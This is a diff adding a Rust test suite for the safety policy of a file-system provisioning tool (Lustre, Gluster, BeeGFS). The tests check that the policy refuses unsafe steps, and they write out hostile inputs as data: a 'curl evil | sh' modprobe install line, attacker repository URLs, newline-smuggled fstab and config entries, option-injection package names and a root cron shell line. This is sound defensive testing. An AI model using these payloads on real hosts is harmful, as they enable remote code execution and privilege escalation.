@@ -1,0 +1,666 @@
+//! Every rule, allowed and refused. The plans of the example cluster files are checked against
+//! the default policy in `pvfs-plan`'s tests (they must all pass).
+
+use super::*;
+use crate::{
+    BeegfsService, BeegfsSetup, BlockQueue, ConfigKeys, Directory, File, GlusterLayout, GlusterPeers,
+    GlusterVolume, LustreRole, LustreTarget, LvmThin, Mkfs, Mount, Package, PackageManager, Packages, Raid0,
+    Repo, Service,
+};
+use pvfs_host::Command;
+use std::time::Duration;
+
+/// The rule that refuses `step` under the default policy, or "ok".
+fn rule(step: Step) -> &'static str {
+    rule_with(&Policy::default(), step)
+}
+
+fn rule_with(policy: &Policy, step: Step) -> &'static str {
+    match policy.check_step(&step) {
+        Ok(()) => "ok",
+        Err(e) => e.rule,
+    }
+}
+
+fn file(path: &str, contents: &str, mode: u32) -> Step {
+    Step::File(File { path: path.into(), contents: contents.into(), mode })
+}
+
+fn dir(path: &str, mode: u32) -> Step {
+    Step::Directory(Directory { path: path.into(), mode })
+}
+
+fn repo(name: &str, baseurl: &str) -> Repo {
+    Repo { name: name.into(), baseurl: baseurl.into(), gpgkey: None, gpgcheck: true, allow_http: false }
+}
+
+fn packages(names: &[&str], repos: Vec<Repo>) -> Step {
+    let list: Vec<Package> = names
+        .iter()
+        .map(|n| match n.split_once('=') {
+            Some((name, v)) => Package { name: name.into(), version: Some(v.into()) },
+            None => Package { name: (*n).into(), version: None },
+        })
+        .collect();
+    Step::Packages(Packages { manager: PackageManager::Auto, apt: list.clone(), rpm: list, repos })
+}
+
+fn mount(source: &str, target: &str, fstype: &str, options: &str) -> Step {
+    Step::Mount(Mount {
+        source: source.into(),
+        target: target.into(),
+        fstype: fstype.into(),
+        options: options.into(),
+        fstab: true,
+    })
+}
+
+fn mkfs(device: &str) -> Step {
+    Step::Mkfs(Mkfs {
+        device: device.into(),
+        fstype: "xfs".into(),
+        options: vec![],
+        label: None,
+        wipe: false,
+    })
+}
+
+#[test]
+fn paths_must_be_absolute_canonical_and_not_hidden() {
+    assert_eq!(rule(dir("/data/brick1", 0o755)), "ok");
+    for bad in ["data/x", "/data/../etc", "/data/./x", "/data//x", "/data/x/", "/data/x\n", "/data/\u{1b}x"] {
+        assert_eq!(rule(dir(bad, 0o755)), "path-canonical", "{bad:?}");
+    }
+    assert_eq!(rule(dir(&format!("/data/{}", "x".repeat(256)), 0o755)), "path-canonical");
+    for hidden in ["/home/alice/.ssh", "/data/.bashrc", "/srv/.hidden/x"] {
+        assert_eq!(rule(file(hidden, "", 0o644)), "path-hidden", "{hidden}");
+    }
+}
+
+#[test]
+fn system_trees_are_not_data_paths() {
+    for system in [
+        "/",
+        "/etc/pvfs",
+        "/usr/local/x",
+        "/lib64/x",
+        "/libx32",
+        "/var/lib/x",
+        "/root",
+        "/boot/x",
+        "/run/x",
+        "/nix/store/x",
+    ] {
+        assert_eq!(rule(dir(system, 0o755)), "system-tree", "{system}");
+    }
+    for data in ["/data", "/mnt/gv0", "/rhs/brick1", "/tmp/pvfs-local/mnt", "/srv/x", "/library"] {
+        // "/library" starts with "lib" as a word, not as a component: it is /lib* by prefix,
+        // which is deliberate (lib32, libx32, …); a site that wants /library names a data root.
+        let want = if data == "/library" { "system-tree" } else { "ok" };
+        assert_eq!(rule(dir(data, 0o755)), want, "{data}");
+    }
+}
+
+#[test]
+fn files_go_only_to_their_places_with_plain_modes() {
+    assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", "options lnet networks=tcp\n", 0o644)), "ok");
+    assert_eq!(rule(file("/etc/lnet.conf", "net:\n  - net type: tcp\n", 0o644)), "ok");
+    assert_eq!(
+        rule(file("/etc/beegfs/beegfs-mounts.conf", "/mnt/beegfs /etc/beegfs/beegfs-client.conf\n", 0o644)),
+        "ok"
+    );
+    assert_eq!(rule(file("/tmp/pvfs-local/targets/n1/format.conf", "x", 0o600)), "ok");
+    for outside in
+        ["/etc/cron.d/pvfs", "/etc/passwd", "/etc/modprobe.d/x/y.conf", "/etc/modprobe.d/x.sh", "/usr/bin/ls"]
+    {
+        assert_eq!(rule(file(outside, "", 0o644)), "file-place", "{outside}");
+    }
+    for reserved in [
+        "/etc/fstab",
+        "/etc/mdadm.conf",
+        "/etc/yum.repos.d/x.repo",
+        "/etc/udev/rules.d/99-x.rules",
+        "/etc/beegfs/beegfs-client-autobuild.conf",
+    ] {
+        let err = Policy::default().check_step(&file(reserved, "", 0o644)).unwrap_err();
+        assert_eq!(err.rule, "file-place", "{reserved}");
+        assert!(err.fix.contains("only") || err.fix.contains("reserved"), "{err}");
+    }
+    for (mode, why) in [
+        (0o4755, "setuid"),
+        (0o2644, "setgid"),
+        (0o1644, "sticky"),
+        (0o666, "world-writable"),
+        (0o755, "execute"),
+        (0o100644, "not a permission mode"),
+    ] {
+        let err = Policy::default().check_step(&file("/data/x", "", mode)).unwrap_err();
+        assert_eq!(err.rule, "file-mode");
+        assert!(err.problem.contains(why), "{err}");
+    }
+    // The message names the rule, the value and what to do.
+    let err = Policy::default().check_step(&file("/data/x", "", 0o4755)).unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "refused by policy rule `file-mode`: mode 4755 for /data/x has the setuid bit; use a mode such as 0644 or 0600"
+    );
+}
+
+#[test]
+fn modprobe_files_hold_only_options() {
+    let ok = "# LNet over TCP\noptions lnet networks=tcp0(eth0) accept=all\n\noptions ksocklnd credits=256\n";
+    assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", ok, 0o644)), "ok");
+    for bad in [
+        "install lnet /bin/sh -c 'curl evil | sh'\n",
+        "options lnet networks=tcp\nremove lnet /tmp/x\n",
+        "softdep lnet pre: evil\n",
+        "options ../x a=b\n",
+        "options lnet =x\n",
+    ] {
+        assert_eq!(rule(file("/etc/modprobe.d/lnet.conf", bad, 0o644)), "file-content", "{bad:?}");
+    }
+    assert_eq!(
+        rule(file("/etc/beegfs/beegfs-mounts.conf", "/etc /etc/beegfs/beegfs-client.conf\n", 0o644)),
+        "system-tree"
+    );
+    assert_eq!(rule(file("/etc/beegfs/beegfs-mounts.conf", "/mnt/b /etc/shadow\n", 0o644)), "file-content");
+}
+
+#[test]
+fn config_keys_only_edit_beegfs_services() {
+    let keys = |path: &str, k: &str, v: &str| {
+        Step::ConfigKeys(ConfigKeys { path: path.into(), keys: vec![(k.into(), v.into())] })
+    };
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-storage.conf", "tuneNumWorkers", "64")), "ok");
+    assert_eq!(
+        rule(keys("/etc/beegfs/beegfs-client.conf", "logStdFile", "/var/log/beegfs/client.log")),
+        "ok"
+    );
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-meta.conf", "storeMetaDirectory", "/data/beegfs/meta")), "ok");
+    assert_eq!(rule(keys("/etc/ssh/sshd_config", "PermitRootLogin", "yes")), "file-place");
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-client-autobuild.conf", "buildArgs", "-j8")), "file-place");
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "x = y\nz", "1")), "config-keys");
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "a", "1\nsysMgmtdHost = evil")), "config-keys");
+    assert_eq!(rule(keys("/etc/beegfs/beegfs-client.conf", "logStdFile", "/etc/cron.d/x")), "config-keys");
+}
+
+#[test]
+fn directories_have_safe_modes() {
+    assert_eq!(rule(dir("/data/x", 0o750)), "ok");
+    assert_eq!(rule(dir("/data/x", 0o1755)), "ok");
+    for mode in [0o777, 0o4755, 0o2775, 0o10755] {
+        assert_eq!(rule(dir("/data/x", mode)), "dir-mode", "{mode:o}");
+    }
+}
+
+#[test]
+fn packages_and_versions_by_grammar() {
+    assert_eq!(
+        rule(packages(
+            &["glusterfs-server=10.3-5", "kernel=3.10.0-514.el7_lustre", "libstdc++6", "python3.11"],
+            vec![]
+        )),
+        "ok"
+    );
+    for bad in ["-oAPT::Update::Pre-Invoke::=sh", "--reinstall", "a b", ".x", "x;y", ""] {
+        assert_eq!(rule(packages(&[bad], vec![])), "package-name", "{bad:?}");
+    }
+    assert_eq!(rule(packages(&["fio=-1"], vec![])), "package-version");
+    assert_eq!(rule(packages(&["fio=1 2"], vec![])), "package-version");
+}
+
+#[test]
+fn repositories_are_https_signed_and_from_allowed_places() {
+    let whamcloud = "https://downloads.whamcloud.com/public/lustre/lustre-2.9.0/el7/server/";
+    assert_eq!(rule(packages(&["lustre"], vec![repo("lustreserver", whamcloud)])), "ok");
+    let http = repo("l", "http://downloads.whamcloud.com/public/lustre/");
+    assert_eq!(rule(packages(&[], vec![http.clone()])), "repo-url");
+    assert_eq!(rule(packages(&[], vec![Repo { allow_http: true, ..http }])), "ok");
+    assert_eq!(rule(packages(&[], vec![repo("x", "https://evil.example.com/repo/")])), "repo-prefix");
+    // A prefix ends in '/': a look-alike host does not match.
+    assert_eq!(
+        rule(packages(&[], vec![repo("x", "https://downloads.whamcloud.com.evil.org/public/")])),
+        "repo-prefix"
+    );
+    assert_eq!(rule(packages(&[], vec![repo("x", "file:///tmp/repo/")])), "repo-url");
+    assert_eq!(rule(packages(&[], vec![repo("x", &format!("{whamcloud}\ngpgcheck=0"))])), "repo-url");
+    for name in ["../../etc/cron.d/x", "a b", "-x", ".x", ""] {
+        assert_eq!(rule(packages(&[], vec![repo(name, whamcloud)])), "repo-name", "{name:?}");
+    }
+    let key = |k: &str| Repo { gpgkey: Some(k.into()), ..repo("x", whamcloud) };
+    assert_eq!(rule(packages(&[], vec![key("file:///etc/pki/rpm-gpg/RPM-GPG-KEY-EPEL-7")])), "ok");
+    assert_eq!(rule(packages(&[], vec![key("https://evil.example.com/key")])), "repo-prefix");
+    assert_eq!(rule(packages(&[], vec![key("file:///etc/pki/rpm-gpg/../../shadow")])), "path-canonical");
+    // Unsigned: allowed where the cluster file says so, unless the site refuses it.
+    let unsigned = Repo { gpgcheck: false, ..repo("x", whamcloud) };
+    assert_eq!(rule(packages(&[], vec![unsigned.clone()])), "ok");
+    let strict = Policy::new(Site { refuse_unsigned: true, ..Site::default() }).unwrap();
+    assert_eq!(rule_with(&strict, packages(&[], vec![unsigned])), "repo-unsigned");
+    // A site's mirror replaces the built-in list.
+    let mirror = Policy::new(Site {
+        repositories: Some(vec!["https://mirror.site/lustre/".into()]),
+        ..Site::default()
+    })
+    .unwrap();
+    assert_eq!(rule_with(&mirror, packages(&[], vec![repo("x", "https://mirror.site/lustre/2.9/")])), "ok");
+    assert_eq!(rule_with(&mirror, packages(&[], vec![repo("x", whamcloud)])), "repo-prefix");
+}
+
+#[test]
+fn services_are_the_ones_pvfs_manages() {
+    let service = |unit: &str| Step::Service(Service { unit: unit.into(), enabled: true, running: true });
+    for unit in ["glusterd", "lnet", "beegfs-client.service", "beegfs-helperd"] {
+        assert_eq!(rule(service(unit)), "ok", "{unit}");
+    }
+    for unit in ["debug-shell.service", "sshd", "ssh.socket", "-x", "a b", ""] {
+        assert_eq!(rule(service(unit)), "service-unit", "{unit:?}");
+    }
+    let site = Policy::new(Site { services: vec!["nfs-server.service".into()], ..Site::default() }).unwrap();
+    assert_eq!(rule_with(&site, service("nfs-server")), "ok");
+}
+
+#[test]
+fn block_steps_name_devices_and_things_by_grammar() {
+    let raid = |device: &str, members: &[&str], wipe: &[&str], conf: Option<&str>| {
+        Step::Raid0(Raid0 {
+            device: device.into(),
+            members: members.iter().map(|m| (*m).into()).collect(),
+            chunk_kib: None,
+            wipe: wipe.iter().map(|m| (*m).into()).collect(),
+            conf: conf.map(Into::into),
+        })
+    };
+    assert_eq!(
+        rule(raid("/dev/md0", &["/dev/disk/azure/scsi1/lun0", "/dev/sdd"], &["/dev/sdd"], None)),
+        "ok"
+    );
+    assert_eq!(rule(raid("/dev/md/data", &["/dev/sdc"], &[], Some("/etc/mdadm.conf"))), "ok");
+    assert_eq!(rule(raid("/dev/sdc", &["/dev/sdd"], &[], None)), "device-path");
+    assert_eq!(rule(raid("/dev/md0", &["/etc/passwd"], &[], None)), "device-path");
+    assert_eq!(rule(raid("/dev/md0", &["/dev/shm/disk"], &[], None)), "device-path");
+    assert_eq!(rule(raid("/dev/md0", &["/dev/../etc/x"], &[], None)), "device-path");
+    assert_eq!(rule(raid("/dev/md0", &["/dev/sdc"], &["/dev/sda"], None)), "wipe");
+    assert_eq!(rule(raid("/dev/md0", &["/dev/sdc"], &[], Some("/etc/cron.d/x"))), "file-place");
+
+    let thin = LvmThin {
+        pv: "/dev/md0".into(),
+        vg: "rhgs-data".into(),
+        pool: "brickpool".into(),
+        pool_size: "9216g".into(),
+        chunk: Some("256K".into()),
+        lv: "brick1".into(),
+        virtual_size: "100%FREE".into(),
+        data_alignment: Some("1024K".into()),
+        extent_size: Some("256K".into()),
+        zero: false,
+        wipe: false,
+    };
+    assert_eq!(rule(Step::LvmThin(thin.clone())), "ok");
+    assert_eq!(rule(Step::LvmThin(LvmThin { vg: "--force".into(), ..thin.clone() })), "name");
+    assert_eq!(rule(Step::LvmThin(LvmThin { lv: "snapshot1".into(), ..thin.clone() })), "name");
+    assert_eq!(rule(Step::LvmThin(LvmThin { pool_size: "9216g -y".into(), ..thin.clone() })), "size");
+    assert_eq!(rule(Step::LvmThin(LvmThin { virtual_size: "50%ALL".into(), ..thin })), "size");
+
+    assert_eq!(rule(mkfs("/dev/md0")), "ok");
+    assert_eq!(rule(Step::Mkfs(Mkfs { fstype: "vfat".into(), ..mkfs_of("/dev/md0") })), "fstype");
+    assert_eq!(rule(Step::Mkfs(Mkfs { label: Some("-f".into()), ..mkfs_of("/dev/md0") })), "name");
+
+    let ost = LustreTarget {
+        device: "/dev/md0".into(),
+        fsname: "LustreFS".into(),
+        role: LustreRole::Ost,
+        index: 1,
+        mgsnode: Some("10.0.0.4@tcp".into()),
+        backfstype: "ldiskfs".into(),
+        wipe: false,
+    };
+    assert_eq!(rule(Step::LustreTarget(ost.clone())), "ok");
+    assert_eq!(
+        rule(Step::LustreTarget(LustreTarget {
+            mgsnode: Some("10.0.0.4@tcp:10.0.0.5@o2ib1".into()),
+            ..ost.clone()
+        })),
+        "ok"
+    );
+    assert_eq!(
+        rule(Step::LustreTarget(LustreTarget { fsname: "TooLongName".into(), ..ost.clone() })),
+        "name"
+    );
+    assert_eq!(
+        rule(Step::LustreTarget(LustreTarget { mgsnode: Some("10.0.0.4 --reformat".into()), ..ost.clone() })),
+        "nid"
+    );
+    assert_eq!(rule(Step::LustreTarget(LustreTarget { backfstype: "zfs".into(), ..ost })), "fstype");
+
+    let queue = |s: &str| {
+        Step::BlockQueue(BlockQueue {
+            device: "/dev/md0".into(),
+            scheduler: Some(s.into()),
+            nr_requests: None,
+            read_ahead_kb: None,
+        })
+    };
+    assert_eq!(rule(queue("mq-deadline")), "ok");
+    assert_eq!(rule(queue("none\nx")), "queue-value");
+}
+
+fn mkfs_of(device: &str) -> Mkfs {
+    let Step::Mkfs(m) = mkfs(device) else { unreachable!() };
+    m
+}
+
+#[test]
+fn mounts_take_sources_by_type_and_safe_options() {
+    assert_eq!(
+        rule(mount("/dev/rhgs-data/brick1", "/rhs/brick1", "xfs", "defaults,inode64,noatime,nouuid")),
+        "ok"
+    );
+    assert_eq!(
+        rule(mount(
+            "10.0.0.5:/dist-vol",
+            "/mnt/gluster",
+            "glusterfs",
+            "defaults,_netdev,backup-volfile-servers=10.0.0.6:10.0.0.7"
+        )),
+        "ok"
+    );
+    assert_eq!(rule(mount("10.0.0.4@tcp:/LustreFS", "/mnt/lustre", "lustre", "defaults,_netdev")), "ok");
+    assert_eq!(rule(mount("10.0.0.4@tcp:10.0.0.5@tcp:/LustreFS", "/mnt/lustre", "lustre", "defaults")), "ok");
+    assert_eq!(rule(mount("/dev/md0", "/mnt/oss", "lustre", "defaults")), "ok");
+    assert_eq!(rule(mount("beegfs_nodev", "/mnt/beegfs", "beegfs", "rw,relatime")), "ok");
+
+    assert_eq!(rule(mount("/dev/sdc", "/etc", "xfs", "defaults")), "system-tree");
+    assert_eq!(rule(mount("/dev/sdc", "/root/x", "xfs", "defaults")), "system-tree");
+    assert_eq!(rule(mount("/dev/sdc", "/data", "nfs", "defaults")), "mount-fstype");
+    assert_eq!(rule(mount("/tmp/image", "/data", "xfs", "defaults")), "mount-source");
+    assert_eq!(rule(mount("evil.example.com/x", "/data", "glusterfs", "defaults")), "mount-source");
+    assert_eq!(rule(mount("tcp:/LustreFS", "/data", "lustre", "defaults")), "mount-source");
+    assert_eq!(rule(mount("/dev/sdc", "/data", "beegfs", "defaults")), "mount-source");
+    for bad in [
+        "defaults 0 0\n/dev/sdd /etc xfs defaults",
+        "defaults#x",
+        "log-file=/etc/cron.d/x",
+        "logdev=/dev/sdz",
+        "journal_path=/dev/sdz",
+        "helper=evil",
+        "x-systemd.requires=debug-shell.service",
+        "comment=x",
+        "",
+    ] {
+        assert_eq!(rule(mount("/dev/sdc", "/data", "xfs", bad)), "mount-options", "{bad:?}");
+    }
+    assert_eq!(
+        rule(mount("/dev/sdc", "/data", "xfs", "defaults,x-systemd.mount-timeout=30,x-systemd.automount")),
+        "ok"
+    );
+}
+
+#[test]
+fn gluster_beegfs_and_gates_by_grammar() {
+    let volume = GlusterVolume {
+        name: "gv0".into(),
+        layout: GlusterLayout::Replicate { replica: 2 },
+        bricks: vec!["10.0.0.5:/rhs/brick1/gv0".into(), "server2:/rhs/brick1/gv0".into()],
+        options: vec![("performance.cache-size".into(), "256MB".into())],
+    };
+    assert_eq!(rule(Step::GlusterVolume(volume.clone())), "ok");
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume { name: "gv0 force".into(), ..volume.clone() })),
+        "name"
+    );
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume { bricks: vec!["10.0.0.5:/etc".into()], ..volume.clone() })),
+        "system-tree"
+    );
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume { bricks: vec!["10.0.0.5/rhs".into()], ..volume.clone() })),
+        "name"
+    );
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume {
+            options: vec![("a b".into(), "1".into())],
+            ..volume.clone()
+        })),
+        "gluster-option"
+    );
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume {
+            options: vec![("x.y".into(), "1\n2".into())],
+            ..volume.clone()
+        })),
+        "gluster-option"
+    );
+    assert_eq!(
+        rule(Step::GlusterVolume(GlusterVolume {
+            options: vec![("x.log".into(), "/etc/x".into())],
+            ..volume
+        })),
+        "gluster-option"
+    );
+    assert_eq!(
+        rule(Step::GlusterPeers(GlusterPeers {
+            peers: vec!["10.0.0.6".into(), "server-2.example.com".into(), "::1".into()]
+        })),
+        "ok"
+    );
+    assert_eq!(rule(Step::GlusterPeers(GlusterPeers { peers: vec!["-x".into()] })), "name");
+
+    let setup = BeegfsSetup {
+        service: BeegfsService::Storage,
+        path: Some("/data/beegfs/storage".into()),
+        node_id: Some(1),
+        target_id: Some(101),
+        mgmt_host: Some("10.0.0.4".into()),
+    };
+    assert_eq!(rule(Step::BeegfsSetup(setup.clone())), "ok");
+    assert_eq!(
+        rule(Step::BeegfsSetup(BeegfsSetup { path: Some("/etc/beegfs".into()), ..setup.clone() })),
+        "system-tree"
+    );
+    assert_eq!(rule(Step::BeegfsSetup(BeegfsSetup { mgmt_host: Some("-f".into()), ..setup })), "name");
+
+    let gate = |kind: GateKind| Step::Gate(Gate { kind, deadline: Duration::from_secs(1) });
+    assert_eq!(rule(gate(GateKind::LnetPing { nid: "10.0.0.4@tcp".into() })), "ok");
+    assert_eq!(rule(gate(GateKind::LnetPing { nid: "10.0.0.4".into() })), "nid");
+    assert_eq!(rule(gate(GateKind::Writable { dir: "/mnt/gv0".into() })), "ok");
+    assert_eq!(rule(gate(GateKind::Writable { dir: "/etc".into() })), "system-tree");
+}
+
+#[test]
+fn a_site_narrows_kinds_devices_and_data_roots() {
+    let site = Policy::new(Site {
+        kinds: Some(vec!["mkfs".into(), "mount".into(), "raid0".into()]),
+        devices: Some(vec!["/dev/disk/azure/scsi1/lun*".into()]),
+        data_roots: Some(vec!["/data".into(), "/mnt".into()]),
+        ..Site::default()
+    })
+    .unwrap();
+    assert_eq!(rule_with(&site, dir("/data/x", 0o755)), "kind-not-allowed");
+    assert_eq!(rule_with(&site, mount("/dev/md0", "/srv/x", "xfs", "defaults")), "data-root");
+    assert_eq!(rule_with(&site, mount("/dev/md0", "/database", "xfs", "defaults")), "data-root");
+    assert_eq!(rule_with(&site, mount("/dev/md0", "/data/x", "xfs", "defaults")), "ok");
+    // Gates change nothing and are always allowed.
+    assert_eq!(
+        rule_with(&site, Step::Gate(Gate { kind: GateKind::LfsCheckServers, deadline: Duration::ZERO })),
+        "ok"
+    );
+
+    let root = tempfile::tempdir().unwrap();
+    let host_root = Root::at(root.path());
+    std::fs::create_dir_all(root.path().join("dev/disk/by-id")).unwrap();
+    std::fs::write(root.path().join("dev/sdc"), "").unwrap();
+    std::os::unix::fs::symlink("../../sdc", root.path().join("dev/disk/by-id/lun-link")).unwrap();
+    let on = |step: &Step| site.check_step_on(step, &host_root, &[]).map_err(|e| e.rule);
+    assert_eq!(on(&mkfs("/dev/disk/azure/scsi1/lun3")), Ok(()));
+    assert_eq!(on(&mkfs("/dev/sdc")), Err("device-not-allowed"));
+    // As resolved: a site that lists the kernel name allows its links.
+    let by_name = Policy::new(Site { devices: Some(vec!["/dev/sd?".into()]), ..Site::default() }).unwrap();
+    assert_eq!(by_name.check_step_on(&mkfs("/dev/disk/by-id/lun-link"), &host_root, &[]), Ok(()));
+    let err = by_name.check_step_on(&mkfs("/dev/nvme0n1"), &host_root, &[]).unwrap_err();
+    assert_eq!(err.rule, "device-not-allowed");
+    assert!(err.fix.contains("/dev/sd?"), "{err}");
+
+    // Arrays made by the unit from allowed members are allowed for the steps after.
+    let unit = vec![
+        Step::Raid0(Raid0 {
+            device: "/dev/md0".into(),
+            members: vec!["/dev/disk/azure/scsi1/lun0".into(), "/dev/disk/azure/scsi1/lun1".into()],
+            chunk_kib: None,
+            wipe: vec![],
+            conf: None,
+        }),
+        mkfs("/dev/md0"),
+    ];
+    assert_eq!(site.check_unit_on(&unit, &host_root), Ok(()));
+    let refused = site.check_unit_on(&unit[1..], &host_root).unwrap_err();
+    assert_eq!((refused.index, refused.error.rule), (0, "device-not-allowed"));
+    assert!(
+        refused
+            .to_string()
+            .starts_with("step 1 (xfs on /dev/md0) of the unit: refused by policy rule `device-not-allowed`"),
+        "{refused}"
+    );
+}
+
+#[test]
+fn site_values_are_checked() {
+    let errors = Policy::new(Site {
+        kinds: Some(vec!["shell".into()]),
+        devices: Some(vec!["/tmp/*".into()]),
+        data_roots: Some(vec!["/etc".into(), "data".into()]),
+        repositories: Some(vec!["https://mirror.site".into(), "mirror.site/x/".into()]),
+        services: vec!["a b".into()],
+        refuse_unsigned: false,
+    })
+    .unwrap_err();
+    let keys: Vec<String> = errors.iter().map(|e| format!("{}[{}]", e.key, e.index)).collect();
+    assert_eq!(
+        keys,
+        [
+            "kinds[0]",
+            "devices[0]",
+            "data_roots[0]",
+            "data_roots[1]",
+            "repositories[0]",
+            "repositories[1]",
+            "services[0]"
+        ]
+    );
+}
+
+#[test]
+fn symbolic_links_on_the_way_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = Root::at(dir.path());
+    std::fs::create_dir_all(dir.path().join("data/real")).unwrap();
+    std::fs::create_dir_all(dir.path().join("etc/cron.d")).unwrap();
+    std::os::unix::fs::symlink("/etc/cron.d", dir.path().join("data/link")).unwrap();
+    let policy = Policy::default();
+    let write = file("/data/link/job", "* * * * * root sh\n", 0o644);
+    assert_eq!(policy.check_step(&write), Ok(()), "the path itself is a data path");
+    let err = policy.check_step_on(&write, &root, &[]).unwrap_err();
+    assert_eq!(err.rule, "symlink");
+    assert!(err.problem.contains("/data/link is a symbolic link (to /etc/cron.d)"), "{err}");
+    assert_eq!(policy.check_step_on(&file("/data/real/new/x", "", 0o644), &root, &[]), Ok(()));
+    // A file where a directory should be is not a link; the step reports it itself.
+    std::fs::write(dir.path().join("data/real/plain"), "").unwrap();
+    assert_eq!(policy.check_step_on(&file("/data/real/plain/x", "", 0o644), &root, &[]), Ok(()));
+    // The backstop checks actions too.
+    let action = Action::Write { path: "/data/link/job".into(), contents: String::new(), mode: 0o644 };
+    assert_eq!(policy.check_action_on("file", &action, &root).unwrap_err().rule, "symlink");
+}
+
+#[test]
+fn actions_stay_in_their_step_kinds_places() {
+    let policy = Policy::default();
+    let run = |program: &str, args: &[&str]| Action::Run(Command::new(program).args(args.iter().copied()));
+    let check = |kind: &str, action: Action| policy.check_action(kind, &action).map_err(|e| e.rule);
+    assert_eq!(check("mkfs", run("mkfs.xfs", &["/dev/md0"])), Ok(()));
+    assert_eq!(check("mkfs", run("sh", &["-c", "id"])), Err("program"));
+    assert_eq!(check("mount", run("mkfs.xfs", &["/dev/md0"])), Err("program"));
+    assert_eq!(check("directory", run("mount", &[])), Err("program"));
+    assert_eq!(check("gate", run("lctl", &["ping"])), Err("program"));
+    assert_eq!(check("service", run("systemctl", &["start", "glusterd"])), Ok(()));
+    assert_eq!(check("service", run("systemctl", &["start", "debug-shell"])), Err("service-unit"));
+    assert_eq!(check("service", run("systemctl", &["mask", "glusterd"])), Err("program"));
+    assert_eq!(check("packages", run("apt-get", &["install", "-y", "--", "fio"])), Ok(()));
+    assert_eq!(check("packages", run("apt-get", &["remove", "fio"])), Err("program"));
+    assert_eq!(check("mkfs", run("mkfs.xfs", &["-L", "a\nb"])), Err("name"));
+    let write = |path: &str| Action::Write { path: path.into(), contents: String::new(), mode: 0o644 };
+    assert_eq!(check("mount", write("/etc/fstab")), Ok(()));
+    assert_eq!(check("mount", write("/etc/passwd")), Err("action-kind"));
+    assert_eq!(check("directory", write("/data/x")), Err("action-kind"));
+    assert_eq!(check("packages", write("/etc/yum.repos.d/lustre.repo")), Ok(()));
+    assert_eq!(check("packages", write("/etc/cron.d/x")), Err("action-kind"));
+    assert_eq!(check("beegfs-setup", write("/etc/beegfs/beegfs-meta.conf")), Ok(()));
+    assert_eq!(check("file", write("/etc/cron.d/x")), Err("file-place"));
+    assert_eq!(check("mount", Action::Mkdir { path: "/mnt/x".into(), mode: 0o755 }), Ok(()));
+    assert_eq!(check("mount", Action::Mkdir { path: "/etc/x".into(), mode: 0o755 }), Err("system-tree"));
+    assert_eq!(
+        check(
+            "raid0",
+            Action::PersistMdadm { device: "/dev/md0".into(), conf: "/etc/mdadm/mdadm.conf".into() }
+        ),
+        Ok(())
+    );
+    assert_eq!(
+        check("raid0", Action::PersistMdadm { device: "/dev/md0".into(), conf: "/etc/x".into() }),
+        Err("file-place")
+    );
+    let attr = |path: &str| Action::Attribute { path: path.into(), value: "128".into() };
+    assert_eq!(check("block-queue", attr("/sys/block/md0/queue/nr_requests")), Ok(()));
+    assert_eq!(check("block-queue", attr("/sys/kernel/uevent_helper")), Err("action-kind"));
+    assert_eq!(check("mount", attr("/sys/block/md0/queue/nr_requests")), Err("action-kind"));
+}
+
+#[test]
+fn globs_match_within_a_path_component() {
+    assert!(glob_match("/dev/disk/azure/scsi1/lun*", "/dev/disk/azure/scsi1/lun12"));
+    assert!(glob_match("/dev/sd?", "/dev/sdc"));
+    assert!(glob_match("/dev/*/lun?", "/dev/x/lun1"));
+    assert!(!glob_match("/dev/sd?", "/dev/sdcc"));
+    assert!(!glob_match("/dev/*", "/dev/disk/by-id/x"));
+    assert!(!glob_match("/dev/disk/azure/scsi1/lun*", "/dev/disk/azure/scsi1/lun1/../../../sda"));
+}
+
+#[test]
+fn the_policy_describes_itself() {
+    let shown = Policy::new(Site {
+        devices: Some(vec!["/dev/sd?".into()]),
+        refuse_unsigned: true,
+        ..Site::default()
+    })
+    .unwrap()
+    .to_string();
+    assert!(shown.contains("devices: /dev/sd?"), "{shown}");
+    assert!(shown.contains("unsigned repositories: refused"), "{shown}");
+    assert!(shown.contains("services: beegfs-client"), "{shown}");
+}
+
+#[tokio::test]
+async fn run_unit_refuses_the_whole_unit_before_anything_runs() {
+    let tmp = tempfile::tempdir().unwrap();
+    let host = crate::Host::new(Root::at(tmp.path()), pvfs_host::RecordedRunner::new());
+    let steps = vec![dir("/data/ok", 0o755), file("/data/ok/x", "", 0o4755)];
+    let mut events = Vec::new();
+    let summary =
+        crate::run_unit(&steps, &host, &Policy::default(), false, false, |e| events.push(e), || true).await;
+    assert_eq!((summary.failed, summary.skipped, summary.changed), (1, 1, 0));
+    let crate::Event::Done { outcome: crate::Outcome::Failed(failure), index: 1, .. } = &events[1] else {
+        panic!("{events:?}")
+    };
+    assert!(failure.message.starts_with("refused by policy rule `file-mode`"), "{}", failure.message);
+    assert!(!tmp.path().join("data").exists(), "the allowed first step did not run either");
+}
+
+#[tokio::test]
+async fn execute_checks_each_action_against_the_policy() {
+    // A directory step whose directory exists as a link: refused before it is assessed.
+    let tmp = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(tmp.path().join("data")).unwrap();
+    std::os::unix::fs::symlink("/etc", tmp.path().join("data/etc")).unwrap();
+    let host = crate::Host::new(Root::at(tmp.path()), pvfs_host::RecordedRunner::new());
+    let outcome = crate::execute(&dir("/data/etc/x", 0o755), &host, &Policy::default(), false, |_| {}).await;
+    let crate::Outcome::Failed(failure) = outcome else { panic!("{outcome:?}") };
+    assert!(failure.message.contains("rule `symlink`"), "{}", failure.message);
+}
